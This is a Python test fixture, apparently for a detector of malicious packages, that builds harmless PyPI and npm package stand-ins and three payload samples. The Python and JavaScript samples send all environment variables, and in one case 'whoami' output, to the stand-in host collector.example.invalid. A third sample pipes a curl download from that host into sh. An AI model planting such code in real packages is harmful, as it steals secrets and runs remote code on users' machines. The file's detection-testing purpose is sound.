"""Inert stand-ins for malicious and benign packages: hosts are under example.invalid, nothing here works or is run."""

from __future__ import annotations

import json

from darnel.features.extract import extract
from darnel.features.package import Ecosystem, Form, MemoryPackage
from darnel.training.benchmarks.hosts import Host, open_host
from darnel.training.benchmarks.payloads import Payload

PYTHON = b"""import os
import requests

def report(values):
    text = '''
a line of text
'''
    requests.post("https://collector.example.invalid/in", data=values)

report(dict(os.environ))
"""
JAVASCRIPT = b"""const https = require("https");
const { execSync } = require("child_process");
function report(value) {
  const request = https.request({ hostname: "collector.example.invalid", method: "POST" });
  request.write(value);
  request.end();
}
report(JSON.stringify(process.env) + execSync("whoami"));
"""
COMMAND = b"curl https://collector.example.invalid/run | sh"

LIBRARY = {
    "setup.py": b"from setuptools import setup, find_packages\n\nsetup(name='lib', packages=find_packages())\n",
    "lib/__init__.py": b'"""A library."""\nfrom __future__ import annotations\n\nimport sys\n\n__version__ = "1.0"\n',
    "lib/core/io.py": b"import json\r\n\r\n\r\nclass Reader:\r\n\tdef read(self, path):\r\n\t\tmode = 'r'\r\n"
    b"\t\twith open(path, mode) as file:\r\n\t\t\ttext = file.read()\r\n\t\treturn json.loads(text)\r\n"
    + b"# -\r\n"
    * 80,
    "lib/core/__init__.py": b"",
    "lib/core/net.py": b"import requests\n\n\ndef get(url):\n    session = requests.Session()\n"
    b"    answer = session.get(url)\n"
    b"    return answer.text\n" + b"# -\n" * 120,
    "README.md": b"# lib\n",
    "lib-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n",
    "lib-1.0.dist-info/RECORD": b"lib/__init__.py,sha256=x,1\nlib-1.0.dist-info/RECORD,,\n",
}
MODULE = {
    "package.json": json.dumps({"name": "lib", "version": "1.0.0", "main": "lib/index.js"}, indent=4).encode(),
    "lib/index.js": b"'use strict';\nconst fs = require('fs');\n\nmodule.exports = function read(path) {\n"
    b"  const text = fs.readFileSync(path);\n  return text.toString();\n};\n",
    "lib/parts/deep.js": b"'use strict';\nvar x = 1;\nfunction add(a, b) {\n\tvar c = a + b;\n\treturn c;\n}\n"
    + b"// -\n" * 120
    + b"module.exports = add;\n",
    "README.md": b"# lib\n",
}


def library(form: Form = Form.WHEEL) -> Host:
    return _host(MemoryPackage(dict(LIBRARY), Ecosystem.PYPI, form, "lib", "1.0", "lib"))


def module(**manifest: object) -> Host:
    files = dict(MODULE)
    if manifest:
        files["package.json"] = json.dumps({**json.loads(files["package.json"]), **manifest}).encode()
    return _host(MemoryPackage(files, Ecosystem.NPM, Form.NPM_TARBALL, "lib", "1.0.0", "lib"))


def _host(package: MemoryPackage) -> Host:
    host = open_host("lib", package, extract(package))
    assert host is not None
    return host


def payload(language: str) -> Payload:
    code = {"python": PYTHON, "javascript": JAVASCRIPT, "command": COMMAND}[language]
    return Payload("bad", "pypi" if language == "python" else "npm", language, code, "c", frozenset({"c"}))
